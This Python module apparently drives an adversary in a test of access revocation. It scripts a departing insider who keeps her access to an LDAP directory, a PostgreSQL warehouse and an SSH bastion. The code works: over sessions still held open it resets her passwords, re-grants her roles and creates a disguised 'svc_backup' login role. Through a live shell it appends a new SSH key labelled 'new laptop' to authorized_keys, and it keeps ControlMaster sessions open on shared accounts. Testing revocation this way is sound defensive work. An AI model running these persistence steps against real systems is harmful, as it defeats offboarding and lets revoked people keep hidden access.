"""The adversary's ways in: what a person can do with what she holds, on each system, over real protocols.

A try answers (outcome, words): `admitted` = the server did it; `refused` = the server said no; `error` = neither
(server down, connection lost). A held connection that the server closed is an `error` whose words begin with `ended`.
"""
import os
import secrets
import select
import socket
import subprocess
import threading
import time

import ldap
import psycopg2

ADMITTED, REFUSED, ERROR = "admitted", "refused", "error"


def new_password():
    return "Adv-" + secrets.token_urlsafe(18)


class Way:
    """One way in, with the immutable id that the server itself told us."""

    def __init__(self, words, system, kind, native_id, attempt, held=False):
        self.words, self.system, self.kind, self.id = words, system, kind, native_id
        self.attempt, self.held = attempt, held

    def key(self):
        return self.system, self.kind, self.id


def endpoint(descriptor):
    """Our own `ip:port` of a connected socket."""
    probe = socket.socket(fileno=os.dup(descriptor))
    try:
        host, port = probe.getsockname()[:2]
        return f"{host.removeprefix('::ffff:')}:{port}"
    finally:
        probe.close()


class Directory:
    """Login, held connection, memberships; fights back by changing her own password over the held connection."""

    NO = (ldap.INVALID_CREDENTIALS, ldap.INSUFFICIENT_ACCESS, ldap.NO_SUCH_OBJECT, ldap.INAPPROPRIATE_AUTH,
          ldap.UNWILLING_TO_PERFORM, ldap.CONSTRAINT_VIOLATION, ldap.STRONG_AUTH_REQUIRED)

    def __init__(self, wallet, me):
        self.wallet, self.me = wallet["directory"], me
        self.dn, self.password, self.authority = self.wallet["dn"], self.wallet["password"], wallet["ca"]
        self.held, self.lock, self.refused_in_row = None, threading.RLock(), 0

    def _open(self):
        connection = ldap.initialize(self.wallet["url"])
        connection.set_option(ldap.OPT_X_TLS_CACERTFILE, self.authority)
        connection.set_option(ldap.OPT_NETWORK_TIMEOUT, 5)
        connection.set_option(ldap.OPT_TIMEOUT, 10)
        connection.set_option(ldap.OPT_X_TLS_NEWCTX, 0)
        connection.simple_bind_s(self.dn, self.password)
        return connection

    def _answer(self, call, words):
        try:
            call()
            return ADMITTED, words
        except self.NO as no:
            return REFUSED, f"{type(no).__name__} {no.args[0].get('result')}"
        except ldap.LDAPError as problem:
            return ERROR, type(problem).__name__

    def _read(self, connection, dn, attribute):
        found = connection.search_s(dn, ldap.SCOPE_BASE, "(objectClass=*)", [attribute])
        return found[0][1][attribute][0].decode()

    def ways(self):
        with self.lock:
            self.held = self._open()
            self.uuid = self._read(self.held, self.dn, "entryUUID")
            groups = {g: self._read(self.held, f"cn={g},ou=groups,dc=example,dc=org", "entryUUID")
                      for g in self.wallet["groups"]}
            where = endpoint(self.held.fileno())
        yield Way("directory login by password", "directory", "account", self.uuid, self._login)
        yield self._held_way(self.held, where)
        for group, uuid in groups.items():
            yield Way(f"what members of group {group} read", "directory", "membership", f"{self.uuid}:{uuid}",
                      lambda group=group: self._resource(group))

    def _held_way(self, connection, where):
        return Way("held directory connection", "directory", "session", where,
                   lambda: self._use_held(connection), held=True)

    def _login(self):
        connection = []
        outcome = self._answer(lambda: connection.append(self._open()), "bound")
        if connection:
            connection[0].unbind_s()
        self.refused_in_row = self.refused_in_row + 1 if outcome[0] == REFUSED else 0
        if self.refused_in_row >= 2:
            self._fight()
        return outcome

    def _fight(self):
        """Locked or reset: over the connection that is still bound, set a password of our own; that also unlocks."""
        mine = new_password()
        with self.lock:
            if self.held is None:
                return
            self.me.keep_secret("directory password set over the held connection", mine)
            try:
                self.held.passwd_s(self.dn, None, mine)
            except ldap.LDAPError:
                return
            self.password, self.refused_in_row = mine, 0
        self.me.mark("changed the directory password over the held connection")

    def _use_held(self, connection):
        with self.lock:
            outcome, words = self._answer(lambda: self._read(connection, self.dn, "entryUUID"), "read own entry")
            if outcome == ERROR:
                words = f"ended: {words}"
                if self.held is connection:
                    self.held = None
        return outcome, words

    def reopen(self):
        """A new held connection when the old one ended and logging in works again."""
        with self.lock:
            if self.held is not None:
                return []
            try:
                self.held = self._open()
            except ldap.LDAPError:
                return []
            return [self._held_way(self.held, endpoint(self.held.fileno()))]

    def _resource(self, group):
        dn = f"cn={group},ou=resources,dc=example,dc=org"
        with self.lock:
            if self.held is not None:
                outcome = self._answer(lambda: self._read(self.held, dn, "description"), "read over held connection")
                if outcome[0] != ERROR:
                    return outcome

        def anew():
            connection = self._open()
            try:
                self._read(connection, dn, "description")
            finally:
                connection.unbind_s()
        return self._answer(anew, "logged in and read")


class Warehouse:
    """Own, created and shared roles; held sessions; memberships; fights back where CREATEROLE lets her."""

    STARTING = ("starting up", "shutting down", "recovery", "too many clients", "remaining connection slots")

    def __init__(self, wallet, me):
        self.wallet, self.me, self.authority = wallet["warehouse"], me, wallet["ca"]
        self.role, self.password = self.wallet["role"], self.wallet["password"]
        self.held, self.lock, self.created, self.reopenable = None, threading.RLock(), 0, {}

    def _open(self, role, password):
        connection = psycopg2.connect(host=self.wallet["host"], port=self.wallet["port"], user=role,
                                      password=password, dbname="sales", sslmode="verify-full",
                                      sslrootcert=self.authority, connect_timeout=10)
        connection.autocommit = True
        return connection

    def _no(self, problem):
        text = " ".join(str(problem).split())
        code = getattr(problem, "pgcode", None)
        if code == "57P01" or "terminating connection" in text:
            return ERROR, "ended: 57P01"
        if code or ("FATAL:" in text and not any(word in text for word in self.STARTING)):
            return REFUSED, f"{code or ''} {text.split('FATAL:')[-1].strip()}".strip()[:200]
        return ERROR, text[:120]

    def _answer(self, call, words):
        try:
            call()
            return ADMITTED, words
        except psycopg2.Error as problem:
            return self._no(problem)

    @staticmethod
    def _one(connection, statement, values=None):
        with connection.cursor() as cursor:
            cursor.execute(statement, values)
            return str(cursor.fetchone()[0])

    def _oid(self, connection, role):
        return self._one(connection, "SELECT oid FROM pg_roles WHERE rolname = %s", [role])

    def ways(self):
        self.held = self._open(self.role, self.password)
        self.oid = self._oid(self.held, self.role)
        yield Way("database login by own role", "warehouse", "account", self.oid,
                  lambda: self._login(self.role, None))
        yield self._held_way(self.held, self.role, "held database session")
        for group in self.wallet["role_groups"]:
            yield Way(f"acting as role {group}", "warehouse", "membership",
                      f"{self.oid}:{self._oid(self.held, group)}", lambda group=group: self._act_as(group))
        if self.wallet["role_groups"]:
            group, inside = self.wallet["role_groups"][0], self._open(self.role, self.password)
            with inside.cursor() as cursor:
                cursor.execute(f"SET ROLE {_quoted(group)}")
            yield self._held_way(inside, None, f"held session that already acts as {group}")
        for shared in self.wallet["shared"]:
            yield Way(f"shared role {shared['role']} by its password", "warehouse", "secret",
                      self._oid(self.held, shared["role"]),
                      lambda s=shared: self._login(s["role"], s["password"]))
            try:
                session = self._open(shared["role"], shared["password"])
            except psycopg2.Error as no:                 # somebody else's departure has rotated it already
                self.me.mark(f"shared role {shared['role']}: {self._no(no)}")
                continue
            yield self._held_way(session, shared["role"], f"held session on shared role {shared['role']}")
        for created in self.wallet["created"]:
            yield self._created_way(created)

    def _created_way(self, created):
        return Way(f"role {created['role']} that she created", "warehouse", "account",
                   self._oid(self.held, created["role"]),
                   lambda: self._login(created["role"], created["password"]))

    def _held_way(self, connection, reopen_as, words):
        if reopen_as:
            self.reopenable[reopen_as] = connection

        def use():
            outcome, why = self._answer(lambda: self._one(connection, "SELECT count(*) FROM pg_class"), "read")
            if connection.closed or outcome == ERROR:
                if self.held is connection:
                    self.held = None
                if reopen_as and self.reopenable.get(reopen_as) is connection:
                    self.reopenable[reopen_as] = None
                return ERROR, why if why.startswith("ended") else f"ended: {why}"
            return outcome, why
        return Way(words, "warehouse", "session", endpoint(connection.fileno()), use, held=True)

    def reopen(self):
        fresh = []
        for role in [r for r, c in self.reopenable.items() if c is None]:
            known = {s["role"]: s["password"] for s in self.wallet["shared"]}
            try:
                connection = self._open(role, known.get(role, self.password))
            except psycopg2.Error:
                continue
            if role == self.role:
                self.held = connection
            fresh.append(self._held_way(connection, role, f"held session on {role}, opened again"))
        return fresh

    def _login(self, role, password):
        def log_in():
            connection = self._open(role, password or self.password)
            self._one(connection, "SELECT current_user")
            connection.close()
        outcome = self._answer(log_in, "logged in")
        if outcome[0] == REFUSED and password is None:
            self._fight("ALTER ROLE {me} PASSWORD '{password}'")
            if self.wallet["may_create_roles"]:
                self._fight("ALTER ROLE {me} LOGIN PASSWORD '{password}' VALID UNTIL 'infinity'")
        return outcome

    def _act_as(self, group):
        own = None
        try:
            own = self.held or self._open(self.role, self.password)
            with self.lock, own.cursor() as cursor:
                cursor.execute(f"SET ROLE {_quoted(group)}")
                cursor.execute(f"SELECT count(*) FROM {_quoted('t_' + group)}")
                cursor.execute("RESET ROLE")
            return ADMITTED, "read the role's table"
        except psycopg2.Error as problem:
            answer = self._no(problem)
            if answer[0] == REFUSED and self.wallet["may_create_roles"]:
                self._fight(f"GRANT {_quoted(group)} TO {{me}}")
            return answer
        finally:
            if own is not None and own is not self.held:
                own.close()

    def _fight(self, statement):
        """Over the session that is still open: take back what was taken."""
        held, mine = self.held, new_password()
        if held is None:
            return
        try:
            with self.lock, held.cursor() as cursor:
                if "{password}" in statement:
                    self.me.keep_secret("database password set over the held session", mine)
                cursor.execute(statement.format(me=_quoted(self.role), password=mine))
        except psycopg2.Error:
            return
        if "{password}" in statement:
            self.password = mine
        self.me.mark(f"did over the held database session: {statement.split('PASSWORD')[0].strip()}")

    def create_role(self):
        """A new role of her own making; a way in of its own."""
        if not self.wallet["may_create_roles"] or self.held is None:
            return []
        self.created += 1
        created = {"role": f"svc_backup_{secrets.token_hex(3)}", "password": new_password()}
        self.me.keep_secret(f"password of role {created['role']}", created["password"])
        try:
            with self.lock, self.held.cursor() as cursor:
                cursor.execute(f"CREATE ROLE {_quoted(created['role'])} LOGIN PASSWORD '{created['password']}'")
        except psycopg2.Error:
            return []
        return [self._created_way(created)]


def _quoted(identifier):
    return '"' + identifier.replace('"', '""') + '"'


class Bastion:
    """Keys, certificates, live sessions, a ControlMaster on the shared account; adds keys while it can."""

    def __init__(self, wallet, me):
        self.wallet, self.me = wallet["bastion"], me
        self.live, self.masters, self.added, self.lock = None, {}, 0, threading.RLock()

    def _ssh(self, login, *more, key=None, certificate=None):
        argv = ["ssh", "-F", "none", "-o", "BatchMode=yes", "-o", "IdentitiesOnly=yes", "-o", "ConnectTimeout=10",
                "-o", f"UserKnownHostsFile={self.me.folder}/known_hosts", "-o", "StrictHostKeyChecking=accept-new",
                "-o", "LogLevel=ERROR", "-o", "KexAlgorithms=curve25519-sha256", "-p", str(self.wallet["port"])]
        argv += ["-i", key] if key else []
        argv += ["-o", f"CertificateFile={certificate}"] if certificate else []
        return argv + list(more) + ["-l", login, self.wallet["host"]]

    def _run(self, argv):
        return subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=20,
                              env=self.me.ssh_env)

    def _login(self, login, key, certificate=None):
        try:
            done = self._run(self._ssh(login, key=key, certificate=certificate) + ["id -u"])
        except subprocess.TimeoutExpired:
            return ERROR, "timeout"
        if done.returncode == 0:
            return ADMITTED, f"uid {done.stdout.strip()}"
        if "Permission denied" in done.stderr:
            return REFUSED, "Permission denied"
        return ERROR, " ".join(done.stderr.split())[:120] or f"exit {done.returncode}"

    def _uid(self, login, key, certificate=None):
        return self._run(self._ssh(login, key=key, certificate=certificate) + ["id -u"]).stdout.strip()

    def fingerprint(self, key):
        return self._run(["ssh-keygen", "-l", "-f", f"{key}.pub"]).stdout.split()[1]

    def ways(self):
        login, opener = self.wallet["login"], None
        for key in self.wallet["keys"]:
            opener = opener or (key, None)
            yield self._key_way(login, key, "own key")
        for c in self.wallet["certificates"]:
            opener = opener or (c["key"], c["certificate"])
            yield Way(f"certificate, serial {c['serial']}", "bastion", "certificate",
                      f"{self.fingerprint(c['key'])}:{c['serial']}",
                      lambda c=c: self._login(login, c["key"], c["certificate"]))
        if opener:
            self.opener = opener
            yield from self.open_live()
        for shared in self.wallet["shared"]:
            yield self._key_way(shared["account"], shared["key"], f"key in shared account {shared['account']}")
            yield from self.open_master(shared["account"], shared["key"])

    def _key_way(self, login, key, words):
        return Way(words, "bastion", "key", f"{self._uid(login, key)}:{self.fingerprint(key)}",
                   lambda: self._login(login, key))

    def open_live(self):
        """A shell that stays; every try sends one line and waits for its echo."""
        key, certificate = self.opener
        shell = subprocess.Popen(self._ssh(self.wallet["login"], key=key, certificate=certificate) + ["sh"],
                                 stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                                 env=self.me.ssh_env, bufsize=0)
        where = self._say(shell, "echo $SSH_CONNECTION").split()
        if len(where) < 2:
            return []
        self.live = shell

        def use():
            token = secrets.token_hex(4)
            if self._say(shell, f"echo {token}") == token:
                return ADMITTED, "shell answered"
            shell.kill()
            shell.wait()
            self.live = None if self.live is shell else self.live
            return ERROR, "ended: shell closed"
        return [Way("live shell", "bastion", "session", f"{where[0]}:{where[1]}", use, held=True)]

    def _say(self, shell, line, seconds=10):
        with self.lock:
            try:
                shell.stdin.write(line.encode() + b"\n")
                text, until = b"", time.monotonic() + seconds
                while not text.endswith(b"\n") and time.monotonic() < until:
                    if select.select([shell.stdout], [], [], 0.5)[0]:
                        piece = os.read(shell.stdout.fileno(), 4096)
                        if not piece:
                            return ""
                        text += piece
                return text.decode(errors="replace").strip()
            except OSError:
                return ""

    def open_master(self, account, key):
        """A multiplexing master: later commands need no login of their own."""
        path = f"{self.me.folder}/mux-{secrets.token_hex(3)}"
        master = subprocess.Popen(self._ssh(account, "-M", "-S", path, "-N", key=key), stdin=subprocess.DEVNULL,
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=self.me.ssh_env)
        over = self._ssh(account, "-S", path, "-o", "ProxyCommand=false", key=key)
        until, where = time.monotonic() + 10, []
        while len(where) < 2 and time.monotonic() < until and master.poll() is None:
            where = self._run(over + ["echo $SSH_CONNECTION"]).stdout.split() if os.path.exists(path) else []
            time.sleep(0.05)
        if len(where) < 2:
            return []
        self.masters[account] = (master, key)

        def use():
            done = self._run(over + ["id -u"])
            if done.returncode == 0:
                return ADMITTED, f"uid {done.stdout.strip()} through the master"
            master.kill()
            master.wait()
            if self.masters.get(account, (None,))[0] is master:
                self.masters[account] = (None, key)
            return ERROR, "ended: master gone"
        return [Way(f"ControlMaster on shared account {account}", "bastion", "session", f"{where[0]}:{where[1]}",
                    use, held=True)]

    def reopen(self):
        fresh = []
        if self.live is None and getattr(self, "opener", None):
            fresh += self.open_live()
        for account, (master, key) in list(self.masters.items()):
            if master is None and self._login(account, key)[0] == ADMITTED:
                fresh += self.open_master(account, key)
        return fresh

    def add_key(self):
        """A new key of ours into her own account, over whatever shell is still open."""
        self.added += 1
        key = f"{self.me.folder}/added{self.added}"
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "new laptop", "-f", key], check=True,
                       env=self.me.ssh_env, stdin=subprocess.DEVNULL)
        self.me.keep_key("key added over a live session", key)
        with open(f"{key}.pub", encoding="utf-8") as public:
            line = public.read().strip()
        command = f"echo '{line}' >> ~/.ssh/authorized_keys && echo added $(id -u)"
        said = self._say(self.live, command) if self.live else ""
        if not said.startswith("added"):
            return []
        return [Way("key added over a live session", "bastion", "key", f"{said.split()[1]}:{self.fingerprint(key)}",
                    lambda: self._login(self.wallet["login"], key))]
